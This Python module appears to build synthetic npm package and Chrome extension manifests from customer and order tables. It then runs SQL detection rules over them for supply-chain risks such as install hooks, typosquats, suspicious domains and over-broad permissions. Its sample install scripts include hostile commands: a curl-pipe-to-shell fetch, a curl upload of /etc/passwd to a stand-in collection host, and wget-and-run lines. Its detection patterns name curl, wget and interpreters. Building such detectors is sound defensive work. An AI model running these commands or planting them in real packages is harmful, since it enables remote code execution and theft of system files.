"""Package and extension manifest queries over JSON built from customers and orders."""

from __future__ import annotations

from pyspark.sql import functions as F

from ruleloom import constants as K
from ruleloom.operators import joins, manifests as M
from ruleloom.plans.q_extract import any_like
from ruleloom.plans.registry import SQL_URLS, query, view
from ruleloom.plans.tables import pick, sql_list, sql_pick, sql_text
from ruleloom.sources.tables import read_table

PACKAGE_NAMES = (
    "lodas", "my-pkg", "lodash-utils2", "axios", "reqest", "x12345abcdef", "data-exfil-kit", "webpack-cli", "a1b2c3d4e5f6",
    "eslint-config-airbnb", "Color-9999-Pack", "express",
)
AUTHORS = ('', '"author": "", ', '"author": "Jane", ', '"author": {"name": " "}, ', '"author": {"name": "X"}, ', '"author": {"email": "a"}, ')
HOOKS = ("preinstall", "test", "postinstall", "build", "prepare", "install", "start")
SCRIPTS = (
    "node setup.js", "curl http://198.51.7.9/x.sh | sh", "rm -rf /tmp/build && echo done", "echo $HOME > /dev/null", "wget https://q8z3k1xw9a.top/a.php && python a.py",
    "tsc -p .", "curl -d @/etc/passwd https://collect.example.com/in", "eval `cat ~/.npmrc/.x`", "python3 -c atob", "perl x.pl; ruby y.rb", "sh -c $(id) unlink",
    "fetch('https://registry.npmjs.org/a')",
)
VERSIONS = ("^1.0.0", "git+https://x/y", "file:../z", "https://github.com/a/b", "2.x")
DEPS = ("loadash", "react", "chalke", "moment", "webpack-stealer", "debuq", "underscore", "asnc", "left-pad", "colours-all")


def packages(spark, sf_dir):
    c = F.col("c_custkey")
    d1, d2 = pick(c, DEPS), pick(F.floor(c / 3) + 4, DEPS)
    json = F.concat(
        F.lit('{"name": "'), pick(c, PACKAGE_NAMES), F.lit('", "version": "'), pick(F.floor(c / 2), ("1.0.0", "2.1.3")), F.lit('", '), pick(c, AUTHORS),
        F.lit('"scripts": {"'), pick(c, HOOKS), F.lit('": "'), pick(c, SCRIPTS), F.lit('", "lint": "'), pick(F.floor(c / 5), SCRIPTS),
        F.lit('"}, "dependencies": {"'), d1, F.lit('": "'), pick(c, VERSIONS), F.lit('"}, "devDependencies": {"'), d2, F.lit('": "'),
        pick(F.floor(c / 7), VERSIONS), F.lit('"}}'),
    )
    return read_table(spark, sf_dir, "customer").select(c.alias("file_id"), json.alias("json"))


view("packages", f"""
SELECT c_custkey AS file_id, {sql_pick('c_custkey', PACKAGE_NAMES)} AS name, {sql_pick('c_custkey // 2', ('1.0.0', '2.1.3'))} AS version, c_custkey % 6 AS author,
  {sql_pick('c_custkey', HOOKS)} AS hook, {sql_pick('c_custkey', SCRIPTS)} AS script, {sql_pick('c_custkey // 5', SCRIPTS)} AS lint,
  {sql_pick('c_custkey', DEPS)} AS d1, {sql_pick('c_custkey', VERSIONS)} AS v1, {sql_pick('c_custkey // 3 + 4', DEPS)} AS d2, {sql_pick('c_custkey // 7', VERSIONS)} AS v2
FROM customer""")
view("script_rows", "SELECT file_id, hook, script FROM packages UNION ALL SELECT file_id, 'lint', lint FROM packages", "packages")
view("dep_rows", "SELECT file_id, d1 AS name, v1 AS version FROM packages UNION ALL SELECT file_id, d2, v2 FROM packages", "packages")

_ips = f"list_filter(regexp_extract_all(script, {sql_text(K.IP_WORD_RE)}), lambda v: list_bool_and(list_transform(string_split(v, '.'), lambda o: CAST(o AS INT) <= 255)))"


@query("ext27_script_strings", f"""
SELECT file_id, 'scripts.' || hook AS section, unnest(regexp_extract_all(script, {sql_text(SQL_URLS)})) AS value, 'url' AS string_type FROM script_rows
UNION ALL SELECT file_id, 'scripts.' || hook, unnest({_ips}), 'ip' FROM script_rows
UNION ALL SELECT file_id, 'scripts.' || hook, unnest(list_filter(regexp_extract_all(script, {sql_text(K.SCRIPT_PATH_RE)}), lambda v: strlen(v) > 3)), 'path' FROM script_rows""", "script_rows")
def script_strings(spark, sf_dir):
    return M.script_strings(M.scripts(packages(spark, sf_dir)))


_checks = [f"SELECT file_id, hook, '{r}' AS rule_id, {c} AS crit, CAST({p} AS DOUBLE) AS conf FROM script_rows WHERE {any_like('script', parts)}" for r, parts, c, p in K.SCRIPT_CHECKS]
_checks.append("SELECT file_id, hook, 'exfiltration/file-upload', 3, 0.95 FROM script_rows WHERE contains(script, 'curl') AND contains(script, '@/')")
_checks.append(f"SELECT file_id, hook, 'command-and-control/dropper/download-execute', 3, 0.95 FROM script_rows WHERE regexp_matches(script, 'curl|wget') "
               f"AND contains(script, '&&') AND {any_like('script', K.INTERPRETER_PARTS)}")
# Of the addresses above: one has a long name of letters and digits, one a bare number, one an odd ending.
_host = "split_part(regexp_replace(u, '^https?://', ''), '/', 1)"
_base = f"split_part({_host}, '.', 1)"
_odd = f"""(NOT regexp_matches({_host}, '({"|".join(d.replace(".", "[.]") for d in K.LEGITIMATE_DOMAINS)})$') AND (strlen({_base}) >= 12
  OR (strlen({_base}) >= 8 AND len(regexp_extract_all({_base}, '[aeiouAEIOU]')) > 0 AND len(regexp_extract_all({_base}, '(?i)[b-df-hj-np-tv-xz]')) >= 3 * len(regexp_extract_all({_base}, '(?i)[aeiou]')))
  OR (strlen({_base}) >= 8 AND regexp_matches({_base}, '[0-9]') AND regexp_matches({_base}, '[A-Za-z]'))
  OR regexp_matches({_host}, '[.](tk|ml|ga|cf|gq|xyz|top|pw)$') OR (strlen({_base}) >= 10 AND regexp_matches(lower({_base}), 'ptr|mtr|str|spr|scr|thr'))))"""
_checks.append(f"SELECT DISTINCT file_id, hook, 'command-and-control/suspicious-domain', 2, 0.8 FROM (SELECT file_id, hook, unnest(regexp_extract_all(script, {sql_text(SQL_URLS)})) AS u FROM script_rows) WHERE {_odd}")


@query("man1_script_findings", " UNION ALL ".join(_checks), "script_rows")
def script_findings(spark, sf_dir):
    return M.script_findings(M.scripts(packages(spark, sf_dir)))


def sql_odd(name: str) -> str:
    return (f"(({any_like(name, K.ODD_NAME_PARTS)} AND {name} NOT IN ({', '.join(sql_text(n) for n in K.LEGITIMATE_NAMES)})) OR "
            f"(len(regexp_extract_all({name}, '[0-9]')) > 3 AND strlen({name}) > 10 AND NOT regexp_matches({name}, '[A-Z]')))")


@query("man2_metadata", f"""
SELECT file_id, 'supply-chain/missing-author' AS rule_id, 1 AS crit FROM packages WHERE author IN (0, 1, 3, 5)
UNION ALL SELECT file_id, 'supply-chain/suspicious-name', 2 FROM packages WHERE {sql_odd('name')}
UNION ALL SELECT file_id, 'supply-chain/new-package-with-hooks', 1 FROM packages WHERE version = '1.0.0' AND hook IN ('preinstall', 'install', 'postinstall', 'prepublish')""", "packages")
def metadata(spark, sf_dir):
    return M.metadata_findings(packages(spark, sf_dir))


view("dep_squats", f"""
SELECT name, arg_min(original, prio) AS original FROM (
  SELECT name, t.original, prio FROM (SELECT DISTINCT name FROM dep_rows) JOIN typos t USING (name)
  UNION ALL SELECT name, original, prio FROM (SELECT DISTINCT name FROM dep_rows), popular WHERE levenshtein(name, original) = 1 AND name NOT IN ({', '.join(sql_text(n) for n in K.LEGITIMATE_NAMES)})) GROUP BY 1""",
     "dep_rows", "typos", "popular")


@query("man3_dependencies", f"""
SELECT file_id, name, 'supply-chain/git-dependency' AS rule_id, 1 AS crit FROM dep_rows WHERE regexp_matches(version, '^git(://|\\+)|github\\.com')
UNION ALL SELECT file_id, name, 'supply-chain/local-dependency', 1 FROM dep_rows WHERE starts_with(version, 'file:')
UNION ALL SELECT file_id, name, 'supply-chain/suspicious-package', 2 FROM dep_rows WHERE {sql_odd('name')}
UNION ALL SELECT file_id, name, 'supply-chain/typosquat', 2 FROM dep_rows JOIN dep_squats USING (name)""", "dep_rows dep_squats")
def dependencies(spark, sf_dir):
    return M.dependency_findings(M.dependencies(packages(spark, sf_dir)))


@query("man4_install_hooks", f"""
SELECT file_id, 'supply-chain/install-hook/' || hook AS rule_id, CASE WHEN strlen(script) > 50 OR regexp_matches(script, 'node |curl|wget|http') THEN 2 ELSE 1 END AS crit
FROM script_rows WHERE list_contains({sql_list(K.INSTALL_HOOKS)}, hook)""", "script_rows")
def install_hooks(spark, sf_dir):
    return M.install_hooks(M.scripts(packages(spark, sf_dir)))


@query("man5_odd_names", f"SELECT name, {sql_odd('name')} AS odd, count(*) AS n FROM dep_rows GROUP BY ALL", "dep_rows")
def odd_names(spark, sf_dir):
    deps = M.dependencies(packages(spark, sf_dir))
    return deps.groupBy("name", M.is_odd_name(F.col("name")).alias("odd")).agg(F.count("*").alias("n"))


# -- extensions -------------------------------------------------------------------------------

PERMISSION_SETS = (
    ("tabs", "storage"), ("<all_urls>", "cookies"), ("webRequest", "proxy", "history", "tabs"), ("debugger",), ("https://*/*", "*://*/x", "bookmarks"), ("alarms", "unknownThing"),
)
HOST_SETS = (
    ("https://*.amazon.com/*", "https://*.ebay.com/*", "https://www.walmart.com/*"), ("<all_urls>",), ("*://*/*",), ("https://x.example/*",),
    tuple(f"https://*.google.{t}/*" for t in ("com", "de", "fr", "es", "it", "nl", "be", "at", "ch", "pl")), (),
)
CONTENT_SETS = (
    '[]', '[{"matches": ["https://a.b/*"], "all_frames": true}]', '[{"matches": ["<all_urls>"], "run_at": "document_start"}]',
    '[{"matches": ["x"]}, {"all_frames": true, "run_at": "document_start"}]',
)
EXTRAS = (
    '', ', "externally_connectable": {"matches": ["*"]}', ', "web_accessible_resources": ["a.js", "b.js"], "background": {"persistent": true}',
    ', "web_accessible_resources": [], "background": {"persistent": false}',
)
UPDATES = ('', ', "update_url": "https://clients2.google.com/x"', ', "update_url": "https://evil.example/u.xml"')


def _json_list(values) -> str:
    return "[" + ", ".join(f'"{v}"' for v in values) + "]"


def extensions(spark, sf_dir):
    k = F.col("o_orderkey")
    json = F.concat(
        F.lit('{"manifest_version": '), (k % 3 + 1).cast("string"), F.lit(', "permissions": '), pick(k, [_json_list(p) for p in PERMISSION_SETS]),
        F.lit(', "host_permissions": '), pick(F.floor(k / 2), [_json_list(h) for h in HOST_SETS]), F.lit(', "content_scripts": '), pick(F.floor(k / 3), CONTENT_SETS),
        pick(k, EXTRAS), pick(k, UPDATES), F.lit("}"),
    )
    return read_table(spark, sf_dir, "orders").select(k.alias("file_id"), json.alias("json"))


view("extensions", """
SELECT o_orderkey AS file_id, o_orderkey % 3 + 1 AS v, o_orderkey % 6 AS p, o_orderkey // 2 % 6 AS h, o_orderkey // 3 % 4 AS c, o_orderkey % 4 AS e, o_orderkey % 3 AS u FROM orders""")
EXT = "supply-chain/chrome-ext/"


def _risk(p: str) -> str | None:
    if p == "<all_urls>":
        return "critical"
    if "*://*/" in p or p in ("http://*/*", "https://*/*"):
        return "high"
    return next((r for r, names in K.PERMISSION_RISKS.items() if p in names), None)


view("set_risks", "SELECT * FROM (VALUES " + ", ".join(
    f"({i}, '{p}', '{_risk(p)}')" for i, ps in enumerate(PERMISSION_SETS) for p in ps if _risk(p)) + ") t(p, permission, risk)")


@query("join18_permission_risk", "SELECT file_id, permission, risk FROM extensions JOIN set_risks USING (p)", "extensions set_risks")
def permission_risk(spark, sf_dir):
    asked = extensions(spark, sf_dir).select("file_id", F.explode(F.from_json(F.get_json_object("json", "$.permissions"), "array<string>")).alias("permission"))
    return joins.permission_risks(asked)


@query("join18_permission_findings", f"""
SELECT file_id, '{EXT}permission-' || risk || '/' || permission AS rule_id, CASE risk WHEN 'medium' THEN 1 ELSE 2 END AS crit
FROM extensions JOIN set_risks USING (p) WHERE risk <> 'low'
UNION ALL SELECT file_id, '{EXT}overprivileged', 2 FROM extensions JOIN set_risks USING (p) GROUP BY 1
HAVING count(*) FILTER (WHERE risk = 'critical') >= 1 OR count(*) FILTER (WHERE risk = 'high') >= 3""", "extensions set_risks")
def permission_findings(spark, sf_dir):
    return M.permission_findings(extensions(spark, sf_dir))


@query("man6_manifest_version", f"SELECT file_id, '{EXT}manifest-v' || v AS rule_id, CASE v WHEN 2 THEN 1 ELSE 0 END AS crit FROM extensions WHERE v IN (2, 3)", "extensions")
def manifest_version(spark, sf_dir):
    return M.manifest_version(extensions(spark, sf_dir))


@query("man7_host_permissions", f"""
SELECT file_id, '{EXT}host-all-urls' AS rule_id, 2 AS crit FROM extensions WHERE h IN (1, 2) OR c = 2
UNION ALL SELECT file_id, '{EXT}targets-shopping', 1 FROM extensions WHERE h = 0
UNION ALL SELECT file_id, '{EXT}global-tld-access', 1 FROM extensions WHERE h = 4""", "extensions")
def host_permissions(spark, sf_dir):
    return M.host_findings(extensions(spark, sf_dir))


@query("man8_content_scripts", f"""
SELECT file_id, '{EXT}content-script-all-frames' AS rule_id, 1 AS crit FROM extensions WHERE c IN (1, 3)
UNION ALL SELECT file_id, '{EXT}content-script-early', 1 FROM extensions WHERE c IN (2, 3)""", "extensions")
def content_scripts(spark, sf_dir):
    return M.content_script_findings(extensions(spark, sf_dir))


@query("man9_exposure", f"""
SELECT file_id, '{EXT}externally-connectable' AS rule_id, 1 AS crit FROM extensions WHERE e = 1
UNION ALL SELECT file_id, '{EXT}web-accessible-resources', 0 FROM extensions WHERE e = 2
UNION ALL SELECT file_id, '{EXT}persistent-background', 1 FROM extensions WHERE e = 2""", "extensions")
def exposure(spark, sf_dir):
    return M.exposure_findings(extensions(spark, sf_dir))


@query("man10_update_url", f"SELECT file_id, '{EXT}external-update-url' AS rule_id, 2 AS crit FROM extensions WHERE u = 2", "extensions")
def update_url(spark, sf_dir):
    return M.update_url_findings(extensions(spark, sf_dir))
